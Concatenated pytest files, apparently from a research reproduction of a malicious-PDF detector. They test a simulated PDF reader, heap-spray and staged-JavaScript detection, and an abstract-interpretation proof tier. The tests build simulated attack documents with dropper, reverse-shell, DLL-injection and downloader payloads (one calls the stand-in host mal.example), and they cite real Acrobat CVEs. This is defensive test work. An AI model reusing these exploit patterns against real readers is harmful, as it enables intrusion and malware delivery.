        session = pipe.session()
        report = session.open(protected, fire_close=False)
        assert not report.verdict.malicious or report.verdict.features.any_in_js
        session.reader.fire_event(report.outcome.handle, trigger_event_for(method))
        verdict = session.verdict_for(protected)
        assert verdict.malicious
        assert verdict.features.any_in_js  # attributed to JS context
        session.close()

    def test_without_wrappers_detection_degrades_to_out_js(self, malicious_doc_bytes):
        """Ablation: disable the dynamic-method wrappers; the staged
        payload then runs outside JS context and only the weaker out-JS
        features fire."""
        pipe = ProtectionPipeline(seed=1)
        pipe.instrumenter.wrap_dynamic_methods = False
        protected = pipe.protect(staged_attack_document(), "ablation.pdf")
        session = pipe.session()
        report = session.open(protected, fire_close=False)
        session.reader.fire_event(report.outcome.handle, "WillClose")
        verdict = session.verdict_for(protected)
        fired = set(verdict.features.fired())
        # In-JS drop/process features cannot be attributed any more.
        assert 11 not in fired and 12 not in fired
        session.close()


class TestDelayedExecutionAttack:
    def test_set_timeout_bomb_detected(self, pipe):
        report = pipe.scan(delayed_attack_document(), "delayed.pdf")
        assert report.verdict.malicious
        assert report.verdict.features.any_in_js

    def test_set_interval_bomb_detected(self, pipe):
        report = pipe.scan(delayed_attack_document(use_interval=True), "interval.pdf")
        assert report.verdict.malicious

    def test_long_delay_still_covered_by_pump(self, pipe):
        report = pipe.scan(delayed_attack_document(delay_ms=4500), "late.pdf")
        assert report.verdict.malicious
