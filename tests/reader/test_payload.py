"""Unit tests for the shellcode payload model."""

from repro.reader.payload import (
    NOP,
    Payload,
    PayloadOp,
    parse_payload,
)


class TestRendering:
    def test_render_and_parse_roundtrip(self):
        payload = Payload.dropper("C:\\t\\a.exe")
        parsed = parse_payload([payload.render()])
        assert parsed is not None
        assert [op.verb for op in parsed.ops] == ["drop", "exec"]
        assert parsed.ops[0].argument == "C:\\t\\a.exe"

    def test_with_sled_prepends_nops(self):
        text = Payload.reverse_shell().with_sled(8)
        assert text.startswith(NOP * 8)
        assert parse_payload([text]) is not None

    def test_parse_finds_payload_mid_string(self):
        haystack = "x" * 1000 + Payload.dropper().render() + "y" * 1000
        assert parse_payload([haystack]) is not None

    def test_parse_returns_none_without_marker(self):
        assert parse_payload(["just a long string" * 100]) is None

    def test_parse_skips_unknown_verbs(self):
        parsed = parse_payload(["[[PAYLOAD|unknown:x;drop:C:\\a.exe]]"])
        assert [op.verb for op in parsed.ops] == ["drop"]

    def test_parse_empty_block_is_none(self):
        assert parse_payload(["[[PAYLOAD|]]"]) is None

    def test_first_payload_wins(self):
        first = Payload.dropper().render()
        second = Payload.reverse_shell().render()
        parsed = parse_payload([first, second])
        assert parsed.ops[0].verb == "drop"


class TestConstructors:
    def test_downloader_has_url_then_exec(self):
        payload = Payload.downloader("http://x/e.exe", "C:\\e.exe")
        assert payload.ops[0].verb == "url"
        assert ">" in payload.ops[0].argument
        assert payload.ops[1].verb == "exec"

    def test_dll_injector(self):
        verbs = [op.verb for op in Payload.dll_injector().ops]
        assert verbs == ["drop", "inject"]

    def test_egg_hunter(self):
        verbs = [op.verb for op in Payload.egg_hunter().ops]
        assert verbs == ["egghunt", "exec"]

    def test_bad_jump_crashes(self):
        assert Payload.bad_jump().crashes_on_landing
        assert not Payload.dropper().crashes_on_landing

    def test_op_render_without_argument(self):
        assert PayloadOp("badjump").render() == "badjump:"
