"""Focused tests for the Acrobat JavaScript object model surface."""


from repro.pdf.builder import DocumentBuilder
from repro.reader import Reader


def run_js(code: str, version="9.0", info=None, pages=1):
    builder = DocumentBuilder()
    for index in range(pages):
        builder.add_page(f"page {index}")
    if info:
        builder.set_info(**info)
    builder.add_javascript(code)
    reader = Reader(version=version)
    outcome = reader.open(builder.to_bytes())
    return reader, outcome.handle


class TestApp:
    def test_alert_accepts_string_and_object_forms(self):
        _r, handle = run_js("app.alert('plain'); app.alert({cMsg: 'object'});")
        assert handle.alerts == ["plain", "object"]

    def test_beep_is_silent_noop(self):
        _r, handle = run_js("app.beep(4);")
        assert not handle.script_errors

    def test_platform_and_viewer_type(self):
        _r, handle = run_js("app.alert(app.platform + '/' + app.viewerType);")
        assert handle.alerts == ["WIN/Exchange-Pro"]

    def test_mail_msg_external(self):
        _r, handle = run_js("app.mailMsg({cTo: 'a@example.org'});")
        assert ("mail", "a@example.org") in handle.external_launches

    def test_clear_interval(self):
        reader, handle = run_js(
            "var t = app.setInterval(\"app.alert('x');\", 500); app.clearInterval(t);"
        )
        assert reader.pump(3.0) == 0


class TestUtil:
    def test_printf_formats(self):
        _r, handle = run_js(
            "app.alert(util.printf('%s has %d pages (%x)', 'doc', 3, 255));"
        )
        assert handle.alerts == ["doc has 3 pages (ff)"]

    def test_printf_benign_use_not_an_exploit(self):
        reader, handle = run_js("util.printf('%d', 5);", version="8.0")
        assert not handle.crashed
        assert not reader.system.filesystem.executables()

    def test_printd_returns_format(self):
        _r, handle = run_js("app.alert(util.printd('yyyy', 'now'));")
        assert handle.alerts == ["now"]

    def test_byte_to_char(self):
        _r, handle = run_js("app.alert(util.byteToChar(65));")
        assert handle.alerts == ["A"]


class TestCollabBenignUse:
    def test_get_icon_with_normal_name_is_safe(self):
        reader, handle = run_js("Collab.getIcon('toolbar_N.bundle');")
        assert not handle.crashed
        assert not reader.gateway.log

    def test_collect_email_info_small_message_safe(self):
        reader, handle = run_js(
            "Collab.collectEmailInfo({msg: 'hi'});", version="8.0"
        )
        assert not handle.crashed


class TestDoc:
    def test_get_field_returns_object(self):
        _r, handle = run_js("var f = this.getField('total'); app.alert(typeof f);")
        assert handle.alerts == ["object"]

    def test_sync_annot_scan_noop(self):
        _r, handle = run_js("this.syncAnnotScan();")
        assert not handle.script_errors

    def test_get_annots_returns_array_on_9(self):
        _r, handle = run_js("app.alert(this.getAnnots({nPage: 0}).length);")
        assert handle.alerts == ["0"]

    def test_document_file_name(self):
        _r, handle = run_js("app.alert(this.documentFileName);")
        assert handle.alerts == ["document.pdf"]

    def test_info_case_variants(self):
        _r, handle = run_js(
            "app.alert(this.info.Author);", info={"Author": "The Author"}
        )
        assert handle.alerts == ["The Author"]

    def test_create_data_object_noop(self):
        _r, handle = run_js("this.createDataObject({cName: 'x.txt'});")
        assert not handle.script_errors

    def test_export_without_launch_only_drops(self):
        reader, handle = run_js(
            "this.exportDataObject({cName: 'a.txt', nLaunch: 0});"
        )
        assert reader.system.filesystem.exists("C:\\Temp\\a.txt")
        spawned = [p.name for p in reader.system.processes.values()]
        assert "C:\\Temp\\a.txt" not in spawned

    def test_bookmark_root_children(self):
        _r, handle = run_js("app.alert(this.bookmarkRoot.children.length);")
        assert handle.alerts == ["0"]

    def test_runtime_script_registration(self):
        _r, handle = run_js("this.addScript('boot', 'var x = 1;');")
        assert ("addScript", "boot", "var x = 1;") in handle.runtime_scripts


class TestSOAP:
    def test_unreachable_service_returns_status(self):
        _r, handle = run_js(
            "var s = SOAP.request({cURL: 'http://nowhere.example:99/x',"
            " oRequest: {q: 1}}); app.alert(s.status);"
        )
        assert handle.alerts == ["unreachable"]

    def test_soap_connect_variant(self):
        reader, handle = run_js("SOAP.connect('http://svc.example/wsdl');")
        assert reader.system.network.connections

    def test_nested_request_payload_bridged(self):
        _r, handle = run_js(
            "SOAP.request({cURL: 'http://s.example/x',"
            " oRequest: {outer: {inner: [1, 2]}, flag: true}});"
        )
        url, payload = handle.soap_messages[0]
        assert payload == {"outer": {"inner": [1.0, 2.0]}, "flag": True}


class TestEventObject:
    def test_event_global_exists(self):
        _r, handle = run_js("app.alert(event.name);")
        assert handle.alerts == ["Open"]
