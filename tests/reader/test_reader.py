"""Unit/integration tests for the simulated PDF reader."""


from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader import Reader
from repro.reader.exploits import CVE
from repro.reader.payload import Payload
from repro.winapi.process import ProcessState

import random


def spray_doc(spray_mb=150, cve=CVE.COLLAB_GET_ICON, payload=None, trigger="OpenAction"):
    builder = DocumentBuilder()
    builder.add_page("")
    rng = random.Random(5)
    code = js.spray_script(
        spray_mb,
        payload or Payload.dropper(),
        rng=rng,
        exploit_call=js.exploit_call_for(cve, rng),
    )
    builder.add_javascript(code, trigger=trigger)
    return builder.to_bytes()


class TestOpenBasics:
    def test_benign_open_runs_scripts(self, js_doc_bytes):
        reader = Reader()
        outcome = reader.open(js_doc_bytes)
        assert outcome.ok
        assert outcome.handle.alerts == ["x=2"]

    def test_parse_error_reported(self):
        reader = Reader()
        outcome = reader.open(b"not a pdf")
        assert outcome.parse_error is not None

    def test_render_memory_charged(self, simple_doc_bytes):
        reader = Reader()
        before = reader.process().memory_counters().private_usage
        reader.open(simple_doc_bytes)
        after = reader.memory_counters().private_usage
        assert after > before

    def test_close_frees_memory(self, simple_doc_bytes):
        reader = Reader()
        outcome = reader.open(simple_doc_bytes)
        opened = reader.memory_counters().private_usage
        reader.close(outcome.handle)
        assert reader.memory_counters().private_usage < opened
        assert not outcome.handle.open

    def test_script_error_does_not_crash_reader(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("this.definitely.not.there;")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.ok
        assert outcome.handle.script_errors

    def test_names_scripts_run_before_open_action(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.alert('open');", trigger="OpenAction")
        builder.add_javascript("app.alert('names');", trigger="Names", name="a")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["names", "open"]

    def test_reader_respawned_after_crash(self):
        reader = Reader()
        crash = reader.open(spray_doc(spray_mb=1))  # too small: hijack miss
        assert crash.crashed
        again = reader.open(DocumentBuilder().to_bytes())
        assert again.ok
        assert reader.process().alive


class TestInfection:
    def test_successful_dropper(self):
        reader = Reader()
        outcome = reader.open(spray_doc())
        assert outcome.ok
        assert reader.system.filesystem.exists("C:\\Temp\\update.exe")
        names = [p.name for p in reader.system.processes.values()]
        assert "C:\\Temp\\update.exe" in names

    def test_insufficient_spray_crashes(self):
        reader = Reader()
        outcome = reader.open(spray_doc(spray_mb=8))
        assert outcome.crashed
        assert reader.current_process.state is ProcessState.CRASHED
        assert "unmapped memory" in outcome.crash_reason

    def test_bad_jump_payload_crashes(self):
        reader = Reader()
        outcome = reader.open(spray_doc(payload=Payload.bad_jump()))
        assert outcome.crashed
        assert "misaligned" in outcome.crash_reason

    def test_unaffected_version_is_inert(self):
        reader = Reader(version="9.0")
        outcome = reader.open(spray_doc(cve=CVE.UTIL_PRINTF))  # 8.x-only CVE
        assert outcome.ok
        assert not reader.system.filesystem.executables()

    def test_affected_version_8_printf(self):
        reader = Reader(version="8.0")
        outcome = reader.open(spray_doc(cve=CVE.UTIL_PRINTF))
        assert outcome.ok
        assert reader.system.filesystem.executables()

    def test_downloader_connects_out(self):
        reader = Reader()
        reader.open(spray_doc(payload=Payload.downloader("http://mal.example/s.exe", "C:\\s.exe")))
        hosts = [c.host for c in reader.system.network.connections]
        assert "mal.example" in hosts
        assert reader.system.filesystem.exists("C:\\s.exe")

    def test_dll_injection_hits_explorer(self):
        reader = Reader()
        reader.open(spray_doc(payload=Payload.dll_injector("C:\\e.dll")))
        explorer = next(
            p for p in reader.system.processes.values() if p.name == "explorer.exe"
        )
        assert explorer.has_module("C:\\e.dll")

    def test_egg_hunt_probes_and_drops(self):
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_embedded_file("egg.bin", b"MZ-egg-body")
        rng = random.Random(5)
        code = js.spray_script(
            150,
            Payload.egg_hunter("C:\\egg.exe"),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
        builder.add_javascript(code)
        reader = Reader()
        reader.open(builder.to_bytes())
        probes = [e for e in reader.gateway.log if e.category == "memory_search"]
        assert len(probes) >= 4
        assert reader.system.filesystem.read("C:\\egg.exe") == b"MZ-egg-body"

    def test_reverse_shell_listens_and_connects(self):
        reader = Reader()
        reader.open(spray_doc(payload=Payload.reverse_shell(5555)))
        kinds = {(c.kind, c.port) for c in reader.system.network.connections}
        assert ("listen", 5555) in kinds
        assert ("connect", 5555) in kinds

    def test_render_exploit_fires_out_of_js(self):
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_render_exploit(CVE.FLASH, "Flash")
        rng = random.Random(5)
        builder.add_javascript(js.spray_script(150, Payload.dropper(), rng=rng))
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.ok
        assert reader.system.filesystem.executables()

    def test_render_exploit_needs_spray(self):
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_render_exploit(CVE.FLASH, "Flash")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.crashed  # hijack with no spray


class TestTimersAndEvents:
    def test_set_timeout_fires_on_pump(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.setTimeOut(\"app.alert('late');\", 1000);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == []
        fired = reader.pump(5.0)
        assert fired == 1
        assert outcome.handle.alerts == ["late"]

    def test_clear_timeout_cancels(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "var t = app.setTimeOut(\"app.alert('nope');\", 1000); app.clearTimeOut(t);"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert reader.pump(5.0) == 0
        assert outcome.handle.alerts == []

    def test_interval_fires_repeatedly(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.setInterval(\"app.alert('tick');\", 1000);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        reader.pump(3.5)
        assert outcome.handle.alerts.count("tick") == 3

    def test_will_close_event(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript('this.setAction("WillClose", "app.alert(\'bye\');");')
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        reader.close(outcome.handle)
        assert outcome.handle.alerts == ["bye"]

    def test_export_data_object_drops_and_launches(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_embedded_file("inv.exe", b"MZ-invoice")
        builder.add_javascript('this.exportDataObject({cName: "inv.exe", nLaunch: 2});')
        reader = Reader()
        reader.open(builder.to_bytes())
        assert reader.system.filesystem.read("C:\\Temp\\inv.exe") == b"MZ-invoice"
        assert any(p.name == "C:\\Temp\\inv.exe" for p in reader.system.processes.values())


class TestAcrobatSurface:
    def test_doc_info_accessible_from_js(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.set_info(Title="The Title")
        builder.add_javascript("app.alert(this.info.Title + '|' + this.info.title);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["The Title|The Title"]

    def test_num_pages(self):
        builder = DocumentBuilder()
        builder.add_page("1")
        builder.add_page("2")
        builder.add_javascript("app.alert('n=' + this.numPages);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["n=2"]

    def test_net_http_throws_inside_document(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "try { Net.HTTP.request('http://x'); app.alert('no'); }"
            " catch (e) { app.alert('blocked'); }"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["blocked"]

    def test_launch_url_not_a_syscall(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.launchURL('http://example.org');")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.external_launches == [("browser", "http://example.org")]
        assert not reader.system.network.connections

    def test_viewer_version_matches_reader(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.alert('v' + app.viewerVersion);")
        outcome = Reader(version="8.0").open(builder.to_bytes())
        assert outcome.handle.alerts == ["v8"]

    def test_soap_request_records_connect(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "SOAP.request({cURL: 'http://svc.example:8080/x', oRequest: {a: 1}});"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.soap_messages == [("http://svc.example:8080/x", {"a": 1.0})]
        assert reader.system.network.connections[0].host == "svc.example"


class TestMemoryModel:
    def test_spray_visible_in_counters(self):
        reader = Reader()
        outcome = reader.open(spray_doc(spray_mb=120))
        assert outcome.handle.sprayed_bytes >= 110 * 1024 * 1024
        assert reader.memory_counters().private_usage >= 110 * 1024 * 1024

    def test_memopt_drop_at_threshold(self):
        builder = DocumentBuilder()
        builder.add_page("memopt")
        builder.set_info(Title="MEMOPT doc")
        data = builder.to_bytes()
        reader = Reader()
        peaks = []
        for _i in range(16):
            reader.open(data)
            peaks.append(reader.memory_counters().private_usage)
        # Memory grows, then drops when the 15th copy triggers the
        # optimisation (Fig. 8's anomaly), then resumes.
        assert peaks[14] < peaks[13]

    def test_linear_growth_without_memopt(self, simple_doc_bytes):
        reader = Reader()
        readings = []
        for _i in range(5):
            reader.open(simple_doc_bytes)
            readings.append(reader.memory_counters().private_usage)
        deltas = [b - a for a, b in zip(readings, readings[1:])]
        assert max(deltas) - min(deltas) <= 1024  # near-constant increments
