"""The proof-tier verdict rules (``repro.jsast.rules_absint``).

Includes the ISSUE 8 acceptance case: a 3-layer eval/unescape-staged
heap spray gets PROVEN-MALICIOUS with sled-shape and trip-count-bound
evidence carried on its :class:`JSStaticReport`.
"""

import random

import pytest

from repro import limits as limits_mod
from repro.corpus import js_snippets as js
from repro.corpus.obfuscated import (
    obfuscated_benign_script,
    obfuscated_spray_script,
)
from repro.jsast.analyzer import analyze_script
from repro.jsast.report import Severity
from repro.jsast.rules_absint import (
    ABSINT_VERSION,
    proof_findings,
    run_absint,
)
from repro.limits import ScanLimits
from repro.reader.payload import Payload

pytestmark = pytest.mark.absint


def spray(mb=150, cve="CVE-2009-0927"):
    return js.spray_script(
        mb,
        Payload.dropper(),
        rng=random.Random(1),
        exploit_call=js.exploit_call_for(cve, random.Random(1)),
    )


class TestVerdicts:
    def test_spray_is_proven_malicious(self):
        section = run_absint(spray())
        assert section["verdict"] == "proven-malicious"
        assert section["reason"] == "absint-heap-spray"
        assert section["proofs"]

    def test_export_launch_is_proven_malicious(self):
        section = run_absint(js.export_launch_script("invoice.exe"))
        assert section["verdict"] == "proven-malicious"
        assert any(
            p["rule"] == "absint-export-launch" for p in section["proofs"]
        )

    def test_benign_form_is_proven_benign(self):
        section = run_absint(js.benign_form_script(random.Random(3)))
        assert section["verdict"] == "proven-benign"
        assert section["reason"] == "no-reachable-channel"

    def test_obfuscated_benign_is_proven_benign(self):
        section = run_absint(obfuscated_benign_script(layers=3))
        assert section["verdict"] == "proven-benign"
        assert section["max_depth"] == 3

    def test_soap_is_unknown_not_benign(self):
        section = run_absint(js.benign_soap_script())
        assert section["verdict"] == "unknown"
        assert "SOAP" in section["reason"]

    def test_version_gated_spray_is_unknown(self):
        gated = js.version_gated(spray(), min_version=8)
        section = run_absint(gated)
        # No must-fact ⇒ no malicious proof; exploit channel ⇒ no
        # benign proof either.  Fail open.
        assert section["verdict"] == "unknown"

    def test_parse_error_is_unknown(self):
        section = run_absint("var = ;;; <<<")
        assert section["verdict"] == "unknown"

    def test_version_stamp_present(self):
        assert run_absint("var x = 1;")["version"] == ABSINT_VERSION


class TestAcceptanceMultiLayer:
    """ISSUE 8 acceptance: ≥3 staged layers, proven with evidence."""

    def test_three_layer_spray_proven_with_evidence(self):
        code = obfuscated_spray_script(target_mb=120, layers=3)
        report = analyze_script(code, label="acceptance")
        assert report.proven_malicious
        assert report.absint is not None
        assert report.absint["max_depth"] >= 3
        proofs = proof_findings(report.absint)
        assert proofs
        spray_proofs = [p for p in proofs if p.rule == "absint-heap-spray"]
        assert spray_proofs
        proof = spray_proofs[0]
        assert proof.severity == Severity.PROVEN
        # Evidence must carry the sled shape and the trip-count bound.
        assert "sled≥" in proof.evidence
        assert "trips≥" in proof.evidence
        assert "unit=" in proof.evidence
        # ... and the proof findings are merged into the report itself.
        assert any(
            f.rule == "absint-heap-spray"
            and f.severity == Severity.PROVEN
            for f in report.findings
        )

    def test_triage_eligible_in_malicious_direction(self):
        code = obfuscated_spray_script(target_mb=120, layers=3)
        report = analyze_script(code)
        # The classic one-shot rules alone would fail open on this
        # (eval staging is SUSPICIOUS); the proof settles it.
        assert report.suspicious
        assert report.proven_malicious


class TestBudgetWiring:
    def test_limits_budget_caps_absint(self):
        limits = ScanLimits(max_absint_steps=40)
        with limits_mod.activate(limits):
            section = run_absint(spray())
        assert section["status"] == "budget-exhausted"
        assert section["verdict"] in ("unknown", "proven-malicious")
        if section["verdict"] == "unknown":
            assert section["reason"] == "absint-budget"

    def test_default_budget_from_limits_alias(self):
        limits = ScanLimits.parse("absint-steps=55")
        assert limits.max_absint_steps == 55


class TestNeverRaises:
    @pytest.mark.parametrize(
        "code",
        [
            "",
            "var = ;;; <<<",
            "eval(eval);",
            "while (true) { }",
            'eval("eval(\\"var x = ;;\\");");',
            "var s = unescape; s();",
        ],
    )
    def test_hostile_inputs_return_sections(self, code):
        section = run_absint(code)
        assert "verdict" in section
        assert section["verdict"] in (
            "proven-benign",
            "proven-malicious",
            "unknown",
        )
