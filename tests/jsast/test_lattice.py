"""The abstract value lattice under the proof tier (ISSUE 8).

Lattice-law tests (join is an upper bound, widening reaches a
fixpoint), string-shape classification, and the shape-preserving
concat/slice transfer functions the heap-spray proof depends on.
"""

import pytest

from repro.jsast import lattice as lat

pytestmark = pytest.mark.absint


class TestInterval:
    def test_exact_roundtrip(self):
        assert lat.Interval.exact(5.0).exact_value == 5.0
        assert lat.Interval(1.0, 2.0).exact_value is None
        assert lat.Interval.at_least(3.0).exact_value is None

    def test_join_is_upper_bound(self):
        a = lat.Interval.exact(2.0)
        b = lat.Interval.exact(10.0)
        joined = a.join(b)
        assert joined.lo <= 2.0
        assert joined.hi is not None and joined.hi >= 10.0

    def test_widen_drops_unstable_bounds(self):
        a = lat.Interval(0.0, 4.0)
        grown = lat.Interval(0.0, 8.0)
        widened = a.widen(grown)
        # The upper bound grew, so widening must discard it.
        assert widened.hi is None
        assert widened.lo == 0.0

    def test_widen_is_fixpoint_on_stable(self):
        a = lat.Interval(1.0, 7.0)
        assert a.widen(a) == a

    def test_clamp_lo_refines(self):
        assert lat.Interval(0.0, None).clamp_lo(100.0).lo == 100.0
        # Clamping never loosens an already-stronger bound.
        assert lat.Interval(200.0, None).clamp_lo(100.0).lo == 200.0

    def test_arithmetic_lower_bounds(self):
        a = lat.Interval(4.0, None)
        b = lat.Interval(3.0, None)
        assert a.add(b).lo == 7.0
        assert a.mul_nonneg(b).lo == 12.0


class TestClassifyString:
    def test_sled_is_repeated_unit(self):
        shape = lat.classify_string("邐" * 4096)
        assert shape.kind == lat.SHAPE_REPEATED
        assert shape.length.exact_value == 4096

    def test_percent_u_shape(self):
        shape = lat.classify_string("%u9090" * 64)
        assert shape.kind in (lat.SHAPE_PERCENT_U, lat.SHAPE_REPEATED)

    def test_plain_text(self):
        assert lat.classify_string("hello world").kind == lat.SHAPE_TEXT

    def test_numeric_string(self):
        assert lat.classify_string("123456").kind in (
            lat.SHAPE_NUMERIC,
            lat.SHAPE_HEX,
            lat.SHAPE_REPEATED,
        )


class TestJoinValue:
    def test_join_identical_consts_is_exact(self):
        v = lat.join_value(lat.AbsConst("a"), lat.AbsConst("a"))
        assert isinstance(v, lat.AbsConst)

    def test_join_different_consts_generalises_not_top(self):
        v = lat.join_value(lat.AbsConst("aaaa"), lat.AbsConst("bbbb"))
        assert not isinstance(v, lat.AbsConst)
        assert v is not lat.TOP  # length info survives as a shape

    def test_join_with_top_is_top(self):
        assert lat.join_value(lat.TOP, lat.AbsConst(1.0)) is lat.TOP

    def test_join_with_bottom_is_identity(self):
        c = lat.AbsConst(1.0)
        assert lat.join_value(lat.BOTTOM, c) is c

    def test_widen_value_terminates_growth(self):
        a = lat.AbsStr(
            lat.SHAPE_REPEATED,
            lat.Interval(16.0, 16.0),
            unit="邐",
            sled_chars=lat.Interval(16.0, 16.0),
        )
        b = lat.AbsStr(
            lat.SHAPE_REPEATED,
            lat.Interval(16.0, 32.0),
            unit="邐",
            sled_chars=lat.Interval(16.0, 32.0),
        )
        w = lat.widen_value(a, b)
        w2 = lat.widen_value(w, w)
        assert w2 == w  # widening reached its fixpoint


class TestConcat:
    def test_both_const_raises(self):
        # The interpreter folds const+const exactly *before* the
        # lattice concat; reaching here with two consts is a bug.
        with pytest.raises(ValueError):
            lat.concat(lat.AbsConst("a"), lat.AbsConst("b"))

    def test_sled_concat_payload_keeps_sled_prefix(self):
        sled = lat.classify_string("邐" * 0x8000)
        out = lat.concat(sled, lat.TOP)
        prefix = lat.sled_prefix_of(out)
        assert prefix.lo >= 0x8000

    def test_prefix_slice_preserves_sled_unit(self):
        sled = lat.classify_string("邐" * 0x8000)
        sliced = lat.prefix_slice(sled, lat.Interval.exact(0x4000))
        assert lat.sled_prefix_of(sliced).lo >= 0x4000
        assert lat.sled_unit_of(sliced) == "邐"

    def test_length_of_top_is_nonneg(self):
        assert lat.length_of(lat.TOP).lo == 0.0
        assert lat.length_of(lat.TOP).hi is None
