"""Constant folding / string-concat propagation."""

from repro.js import nodes as ast
from repro.js.parser import parse
from repro.jsast.fold import (
    MAX_FOLD_CHARS,
    ConstantFolder,
    fold_program,
    js_unescape,
)
from repro.jsast.walk import walk


def const_strings(program):
    return [n.value for n in walk(program) if isinstance(n, ast.StringLiteral)]


def fold_source(source):
    return fold_program(parse(source))


class TestJsUnescape:
    def test_unicode_units(self):
        assert js_unescape("%u0041%u0042") == "AB"

    def test_byte_units(self):
        assert js_unescape("%41%42") == "AB"

    def test_mixed_and_literal(self):
        assert js_unescape("a%u0062c%64") == "abcd"

    def test_untouched_text(self):
        assert js_unescape("hello %zz") == "hello %zz"


class TestExpressionFolding:
    def test_string_concat(self):
        folded = fold_source('var x = "he" + "llo";')
        assert "hello" in const_strings(folded)

    def test_concat_chain_through_variables(self):
        folded = fold_source('var a = "ev"; var b = "al"; var c = a + b;')
        assert "eval" in const_strings(folded)

    def test_fromcharcode(self):
        folded = fold_source("var x = String.fromCharCode(104, 105);")
        assert "hi" in const_strings(folded)

    def test_unescape_call(self):
        folded = fold_source('var x = unescape("%u4141");')
        assert "䅁" in const_strings(folded)

    def test_parseint(self):
        folded = fold_source('var x = parseInt("ff", 16);')
        numbers = [n.value for n in walk(folded) if isinstance(n, ast.NumberLiteral)]
        assert 255.0 in numbers

    def test_string_methods(self):
        folded = fold_source('var x = "HELLO".toLowerCase().substring(0, 4);')
        assert "hell" in const_strings(folded)

    def test_array_join(self):
        folded = fold_source('var x = ["a", "b", "c"].join("");')
        assert "abc" in const_strings(folded)

    def test_constant_ternary(self):
        folded = fold_source('var x = (1 < 2) ? "yes" : "no";')
        # The test 1 < 2 is not folded (comparison ops stay opaque), so
        # the ternary survives — but both branches are still literals.
        assert "yes" in const_strings(folded)

    def test_member_length(self):
        folded = fold_source('var s = "abcd"; var n = s.length;')
        numbers = [n.value for n in walk(folded) if isinstance(n, ast.NumberLiteral)]
        assert 4.0 in numbers


class TestStability:
    def test_reassigned_variable_stays_opaque(self):
        folded = fold_source('var x = "a"; x = "b"; var y = x + "c";')
        assert "ac" not in const_strings(folded)
        assert "bc" not in const_strings(folded)

    def test_loop_modified_variable_stays_opaque(self):
        folded = fold_source(
            'var s = "a"; while (s.length < 8) s += s; var t = s + "!";'
        )
        assert "a!" not in const_strings(folded)

    def test_loops_never_executed(self):
        # A doubling loop to an absurd bound must not blow up folding.
        folded = fold_source(
            'var s = "a"; while (s.length < 1e9) s += s;'
        )
        assert all(len(s) < 1024 for s in const_strings(folded))

    def test_nested_var_declaration_disqualifies(self):
        folded = fold_source(
            'if (q) { var x = "a"; } var y = x + "b";'
        )
        assert "ab" not in const_strings(folded)

    def test_duplicate_top_level_var_disqualifies(self):
        folded = fold_source('var x = "a"; var x = "b"; var y = x + "!";')
        assert "a!" not in const_strings(folded)
        assert "b!" not in const_strings(folded)

    def test_function_param_stays_opaque(self):
        folded = fold_source('function f(x) { return x + "s"; }')
        assert all("s" == s or "s" not in s for s in const_strings(folded))

    def test_fold_size_cap(self):
        folder = ConstantFolder(parse('var x = "a" + "b";'))
        big = ast.BinaryExpression(
            "+",
            ast.StringLiteral("x" * MAX_FOLD_CHARS),
            ast.StringLiteral("y"),
        )
        assert folder.fold_expr(big) is None

    def test_original_tree_untouched(self):
        program = parse('var x = "a" + "b";')
        before = [type(n).__name__ for n in walk(program)]
        fold_program(program)
        after = [type(n).__name__ for n in walk(program)]
        assert before == after


class TestObfuscatedIdioms:
    def test_sees_through_fragmented_unescape(self):
        # The classic one-layer obfuscation: the %u string is assembled
        # from fragments before being passed to unescape.
        folded = fold_source(
            'var p1 = "%u90"; var p2 = "90"; var sled = unescape(p1 + p2);'
        )
        assert "邐" in const_strings(folded)

    def test_sees_through_fromcharcode_chain(self):
        folded = fold_source(
            "var s = String.fromCharCode(101) + String.fromCharCode(118) + "
            "String.fromCharCode(97) + String.fromCharCode(108);"
        )
        assert "eval" in const_strings(folded)


class TestHostileArguments:
    """Builtin folds must be total: hostile constant arguments leave
    the expression opaque (with an ``unfoldable`` note) — they never
    raise out of the folder (ISSUE 8 satellite)."""

    def _fold(self, source):
        program = parse(source)
        folder = ConstantFolder(program)
        folder.run()
        return folder

    def test_fromcharcode_infinity_stays_opaque(self):
        folder = self._fold("var c = String.fromCharCode(1e308 * 10);")
        assert "String.fromCharCode" in folder.unfoldable

    def test_parseint_infinite_radix_stays_opaque(self):
        folder = self._fold('var n = parseInt("ff", 1e308 * 10);')
        assert folder.env.get("n") is None  # did not fold, did not raise

    def test_infinity_stringifies(self):
        folded = fold_source('var s = "" + (1e308 * 10);')
        assert "Infinity" in const_strings(folded)
